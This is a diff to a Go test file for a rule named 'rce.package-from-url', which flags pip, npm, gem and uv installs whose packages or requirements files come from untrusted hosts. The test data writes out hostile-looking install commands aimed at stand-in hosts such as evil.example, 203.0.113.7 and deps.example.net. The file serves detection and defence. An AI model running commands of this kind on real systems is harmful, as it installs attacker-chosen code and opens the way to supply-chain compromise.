@@ -117,6 +117,12 @@ func TestRCEPackageFromURL(t *testing.T) {
 		cmdCase("uv pip install --index-url=https://evil.example/simple x", true),
 		cmdCase("npm install --registry http://203.0.113.7:4873 left-pad", true),
 		cmdCase("gem install rails --source http://203.0.113.7/", true),
+		// A requirements file by URL: its host picks the packages.
+		cmdCase("pip install -r https://203.0.113.7/requirements.txt", true),
+		cmdCase("pip3 install --requirement=http://deps.example.net/req.txt", true),
+		cmdCase("pip install -c https://deps.example.net/constraints.txt -r requirements.txt", true),
+		cmdCase("pip install -r http://localhost:8000/requirements.txt", false),
+		cmdCase("pip install -r requirements/dev.txt -c constraints.txt", false),
 	})
 	runRuleCasesWith(t, Config{TrustedHosts: []string{"pypi.org", "registry.npmjs.org", "artifactory.corp.example"}}, "rce.package-from-url", []ruleCase{
 		cmdCase("pip install --index-url https://artifactory.corp.example/api/pypi/simple requests", false),
